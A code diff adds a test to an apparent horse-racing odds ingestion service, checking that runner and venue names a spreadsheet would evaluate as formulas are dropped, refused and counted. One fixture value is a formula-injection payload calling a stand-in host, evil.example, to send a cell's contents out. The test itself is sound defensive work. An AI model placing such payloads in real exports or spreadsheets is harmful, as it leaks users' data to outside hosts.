@@ -150,6 +150,29 @@ test('a value that is no price, or breaks the order of the legs, is dropped and 
   expect(await counts('boostbet')).toMatchObject({ 'dropped win_not_above_1': 1, 'dropped top2_above_win': 1 });
 });
 
+test('a runner or a venue whose name a spreadsheet would run is left out and counted, and the rest of the push is taken', async () => {
+  const names = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+9)', '+1', '-1', '＝1+1', 'Gold-Trip = 1'];
+  const runners = names.map((name, i) => pushedRunner(i + 1, { name }));
+  const races = [
+    pushedRace({ source_id: 'names', race_number: 11, runners }),
+    pushedRace({ source_id: 'venue', race_number: 12, venue: '=Flemington' }),
+  ];
+  expect(await pushed(push({ races }))).toMatchObject({
+    races_ingested: 1,
+    runners_built: 1,
+    refused: [{ source_id: 'venue', reason: 'name_is_formula' }],
+    dropped: { name_is_formula: 5 },
+  });
+  expect(await counts('boostbet')).toMatchObject({
+    'dropped name_is_formula': 5,
+    'refused name_is_formula': 1,
+  });
+  const { rows } = await served.db.pool.query(
+    "SELECT name FROM runners JOIN race_books USING (race_id) WHERE source_race_id = 'names'",
+  );
+  expect(rows).toEqual([{ name: 'Gold-Trip = 1' }]);
+});
+
 test('an ambiguous race, or one outside the window, is refused alone', async () => {
   const races = [
     pushedRace({ source_id: 'far', venue: 'Ascot', start_time: '2026-11-29T03:30:00.000Z' }),
